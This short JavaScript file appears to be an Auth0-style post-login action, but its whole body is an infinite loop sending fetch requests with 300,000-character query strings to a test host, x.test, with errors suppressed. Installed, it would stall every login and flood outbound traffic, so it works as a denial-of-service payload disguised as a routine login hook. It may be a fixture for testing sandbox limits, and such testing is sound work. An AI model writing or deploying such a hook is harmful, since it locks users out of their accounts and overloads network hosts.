exports.onExecutePostLogin = async (event, api) => {
  for (;;) fetch('https://x.test/?' + 'u'.repeat(3e5)).catch(() => {});
};
